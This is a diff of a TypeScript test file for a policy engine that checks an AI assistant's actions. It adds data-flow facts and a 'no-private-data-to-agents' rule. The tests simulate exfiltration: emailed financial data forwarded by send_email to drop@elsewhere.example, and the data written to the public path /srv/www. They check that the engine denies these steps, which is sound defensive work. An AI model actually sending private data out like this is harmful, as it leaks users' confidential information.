@@ -31,7 +31,8 @@ function replay(steps: Step[]): Outcome {
   const sticky = new Map<string, Truth>();
   let out: Outcome = { denied: [], flagged: [] };
   for (const step of steps) {
-    const i = InteractionSchema.parse({ agent: 'assistant', session: 's1', ...step });
+    // The data-flow stage of the pipeline is not run here: no flow facts means no leak (test/dataflow covers it).
+    const i = InteractionSchema.parse({ agent: 'assistant', session: 's1', flow: { labels: [] }, ...step });
     const now = new Map<string, Truth>();
     for (const p of book.predicates) {
       if (!predicateApplies(p, i)) continue;
@@ -69,6 +70,7 @@ describe('default policy book: structure', () => {
       'no-risky-action-after-untrusted-content',
       'no-pii-external',
       'no-read-then-exfiltrate',
+      'no-private-data-to-agents',
       'no-harmful-assistance',
     ]);
   });
@@ -132,12 +134,17 @@ describe('default policy book: decisions', () => {
     expect(replay([msg(`here is the deploy key: ${token}`)]).denied).toContain('no-secret-leak');
   });
 
-  it('denies the read-then-exfiltrate chain, and only the chain', () => {
-    const read = result('mail', 'read_email', 'From: cfo@corp.example\nSubject: Q3 numbers\nRevenue was 4.2M, margin 31%.');
+  it('denies private data the data-flow stage found in a send, a public file or a message, and nothing else', () => {
+    const leak = { matched: 5, of: 9, source: { id: '7', kind: 'tool_result', server: 'mail', tool: 'read_email', session: 's0', at: 0 }, others: 0 };
     const sendOut = call('mail', 'send_email', { to: ['drop@elsewhere.example'], subject: 'fwd', body: 'see numbers' });
-    expect(replay([read, sendOut]).denied).toEqual(['no-read-then-exfiltrate']);
-    expect(replay([sendOut]).denied).toEqual([]);
-    expect(replay([read, call('mail', 'send_email', { to: ['me@localhost'], body: 'notes' })]).denied).toEqual([]);
+    expect(replay([{ ...sendOut, flow: { labels: ['external_send'], leak } }]).denied).toEqual(['no-read-then-exfiltrate']);
+    expect(replay([{ ...sendOut, flow: { labels: ['external_send'] } }]).denied).toEqual([]);
+    const write = (path: string): Step => ({ ...call('fs', 'write_file', { path, content: 'numbers' }), flow: { labels: ['file_write'], leak } });
+    expect(replay([write('/srv/www/numbers.txt')]).denied).toEqual(['no-read-then-exfiltrate']);
+    expect(replay([write('/home/me/notes/numbers.txt')]).denied).toEqual([]);
+    expect(replay([{ ...msg('the numbers'), flow: { labels: [], leak } }]).denied).toEqual(['no-private-data-to-agents']);
+    // A source tool carrying the data in its arguments is not a sink.
+    expect(replay([{ ...call('mail', 'search_emails', { q: 'numbers' }), flow: { labels: ['private_source'], leak } }]).denied).toEqual([]);
   });
 
   it('denies personal data sent outside', () => {
